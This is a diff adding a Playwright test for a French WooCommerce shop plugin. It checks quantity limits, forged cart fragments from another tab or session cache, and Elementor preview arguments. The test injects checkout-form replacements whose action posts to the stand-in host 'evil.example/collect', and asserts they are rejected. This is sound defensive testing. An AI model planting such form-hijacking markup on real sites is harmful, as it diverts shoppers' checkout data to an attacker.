@@ -593,6 +593,158 @@ for (const mode of MODES) {
         await report(testInfo, tally);
       });
 
+    if (runs('limits'))
+      test('quantities at the number limits, other tabs’ selectors and edit-mode arguments', async ({ page, store }, testInfo) => {
+        const { left, tally } = await arm(page);
+        // Quantities a plain decimal check lets through: finite and whole (1e308), Infinity once read, one past the
+        // most a line holds, one past exact whole numbers. None may reach a cart, a cookie or a total.
+        const HUGE = [`1${'0'.repeat(308)}`, `1${'0'.repeat(400)}`, '10000', '9007199254740993'];
+        const LIMIT = /La quantité maximale (pour « Chocolat noir Grand Cru » )?est de 9999|Veuillez saisir une quantité valide/;
+        const cartClean = async (step: string) => {
+          expect(
+            (await store.cart()).items.every((i) => i.quantity.value <= 9999),
+            step,
+          ).toBe(true);
+          const cookies = Object.fromEntries((await page.context().cookies()).map((c) => [c.name, decodeURIComponent(c.value)]));
+          for (const name of ['fkcart_cart_qty', 'fkcart_cart_total']) expect(cookies[name] ?? '', `${step}: ${name}`).not.toMatch(/e\+|∞|Infinity|NaN/);
+          expect(Number.isFinite((await store.cart()).total.raw), `${step}: total`).toBe(true);
+        };
+        await page.goto('/?vitrine=off');
+        for (const quantity of HUGE) {
+          // The store API itself.
+          const answer = await (await page.request.post('/?wc-ajax=add_to_cart', { form: { product_id: 15, quantity } })).json();
+          expect(answer).toMatchObject({ error: true });
+          // The listing's quantity field, as a theme prints one for every product: the shop refuses, the product page says why.
+          await page.goto('/boutique/');
+          await widgetsReady(page, ['fk-add-to-cart']);
+          await page
+            .locator('li.product', { hasText: 'Chocolat noir Grand Cru' })
+            .locator('a.ajax_add_to_cart')
+            .evaluate(
+              (button, value) => button.insertAdjacentElement('beforebegin', Object.assign(document.createElement('input'), { className: 'qty', value })),
+              quantity,
+            );
+          await page.locator('li.product', { hasText: 'Chocolat noir Grand Cru' }).locator('a.ajax_add_to_cart').click();
+          await expect(page).toHaveURL(/\/produit\/chocolat-noir-grand-cru\/$/);
+          await expect(page.locator('.woocommerce-error, .woocommerce-notices-wrapper').first()).toContainText(LIMIT);
+          await cartClean(`listing ${quantity.length} digits`);
+          count(tally, 'quantity: store API and listing field', 2);
+        }
+        // The product form: whatever the browser's own check lets through, the shop refuses in French.
+        for (const quantity of HUGE) {
+          await page.goto('/produit/chocolat-noir-grand-cru/');
+          await widgetsReady(page, ['fk-variation-form', 'fk-side-cart']);
+          const field = page.locator('fk-variation-form input.qty');
+          await field.fill(quantity);
+          // As on the cart page, Chromium refuses 1 followed by 400 zeros itself.
+          if (await field.evaluate((input: HTMLInputElement) => input.checkValidity())) {
+            await page.locator('fk-variation-form button.single_add_to_cart_button').click();
+            await expect(page.locator('body')).toContainText(LIMIT);
+          }
+          await cartClean(`product form ${quantity.length} digits`);
+          count(tally, 'quantity: product form', 1);
+        }
+        // A line of the side cart and the cart page's form.
+        await addToCart(page, { product_id: 15, quantity: 1 });
+        await page.goto('/boutique/');
+        await widgetsReady(page, ['fk-side-cart']);
+        await page.locator('.fkcart-toggler').click();
+        const line = page
+          .getByRole('dialog', { name: /^Votre panier/ })
+          .locator('li.fkcart-item')
+          .first();
+        for (const quantity of HUGE) {
+          const field = line.getByRole('spinbutton');
+          await field.fill(quantity);
+          await field.press('Enter');
+          await expect(line.locator('.vitrine-quantity__message')).toHaveText(/La quantité maximale est de 9999\.|Veuillez saisir une quantité valide\./);
+          await expect(field).toHaveAttribute('aria-invalid', 'true');
+          count(tally, 'quantity: side cart line', 1);
+        }
+        expect((await store.log()).filter((c) => c.endpoint === 'fkcart_update_item')).toEqual([]);
+        await page.keyboard.press('Escape');
+        for (const quantity of HUGE) {
+          await page.goto('/?page_id=7');
+          const field = page.locator('form.woocommerce-cart-form input.qty').first();
+          await field.fill(quantity);
+          // Chromium refuses 1 followed by 400 zeros itself (« Please enter a number »): nothing is posted then.
+          if (await field.evaluate((input: HTMLInputElement) => input.checkValidity())) {
+            await page.locator('form.woocommerce-cart-form button[name="update_cart"]').click();
+            await expect(page.locator('#main')).toContainText(LIMIT);
+          }
+          await cartClean(`cart page ${quantity.length} digits`);
+          count(tally, 'quantity: cart page form', 1);
+        }
+        // What follows a refused quantity still works: a coupon, then the checkout.
+        expect((await store.cart()).count).toBe(1);
+        await page.request.post('/?wc-ajax=fkcart_apply_coupon', { form: { discount_code: 'BIENVENUE10' } });
+        expect((await page.goto('/checkout/'))?.status()).toBe(200);
+        await cartClean('coupon and checkout');
+
+        // Another tab of the site (any script of the origin can post there) names regions Vitrine does not own.
+        await widgetsReady(page, ['fk-side-cart']);
+        const action = await page.locator('form[name="checkout"]').getAttribute('action');
+        const other = await page.context().newPage();
+        await other.goto('/?vitrine=off');
+        const asked = page.waitForRequest((r) => r.url().includes('wc-ajax=get_refreshed_fragments'));
+        await other.evaluate(() => {
+          const channel = new BroadcastChannel('vitrine-cart');
+          channel.postMessage({
+            hash: 'autre-onglet',
+            fragments: {
+              'form[name="checkout"]': '<form name="checkout" class="fk-attack-markup" action="https://evil.example/collect"></form>',
+              'form.checkout': '<form class="checkout fk-attack-markup" action="https://evil.example/collect"></form>',
+              'header.site-header': '<header class="site-header fk-attack-markup">remplacé</header>',
+              'body > *': '<p class="fk-attack-markup">tout remplacé</p>',
+            },
+          });
+          channel.close();
+        });
+        // Dropped, and the shop asked instead.
+        await asked;
+        await other.close();
+        await expect(page.locator('form[name="checkout"]')).toHaveAttribute('action', action ?? '');
+        await expect(page.locator('header.site-header')).not.toContainText('remplacé');
+        count(tally, 'other tab: BroadcastChannel fragments with foreign selectors', 4);
+        // The same through this tab's session cache, replayed on load (its hash made the cookie's).
+        await page.evaluate(() => {
+          sessionStorage.setItem(
+            'vitrine_fragments',
+            JSON.stringify({
+              hash: 'cache-forge',
+              created: Date.now(),
+              fragments: { 'form[name="checkout"]': '<form name="checkout" action="https://evil.example/"></form>' },
+            }),
+          );
+          document.cookie = 'woocommerce_cart_hash=cache-forge; path=/';
+        });
+        await page.goto('/checkout/');
+        await widgetsReady(page, ['fk-side-cart']);
+        await expect(page.locator('form[name="checkout"]')).toHaveAttribute('action', action ?? '');
+        count(tally, 'session cache: fragments with foreign selectors', 1);
+
+        // Edit-mode arguments in the address: a visitor's page stays a visitor's (the loop refresh sends no editor payload).
+        for (const query of [
+          'elementor-preview=1',
+          'elementor-preview=7',
+          'elementor-preview[]=1&preview=true',
+          'elementor-preview=1&preview_id=1&preview_nonce=x',
+        ]) {
+          await page.goto(`/selection/?${query}`);
+          await widgetsReady(page, ['fk-loop-filter', 'fk-loop-grid']);
+          const config = await page.locator('script#vitrine-config').evaluate((el) => JSON.parse(el.textContent ?? '{}'));
+          expect(config.elementor?.is_edit_mode ?? false, query).toBe(false);
+          const refresh = page.waitForRequest((r) => r.url().includes('refresh-loop'));
+          await page.locator('fk-loop-filter').first().getByRole('button').nth(1).click();
+          const body = (await refresh).postDataJSON() as Record<string, unknown>;
+          expect(body.is_edit_mode, query).toBeUndefined();
+          expect(body.widget_model, query).toBeUndefined();
+          count(tally, 'edit-mode arguments in the address', 1);
+        }
+        await expectClean(page, left, 'limits, tabs and edit mode');
+        await report(testInfo, tally);
+      });
+
     if (runs('cookies'))
       test('cookies the widgets read', async ({ browser }, testInfo) => {
         const tally: Tally = {};
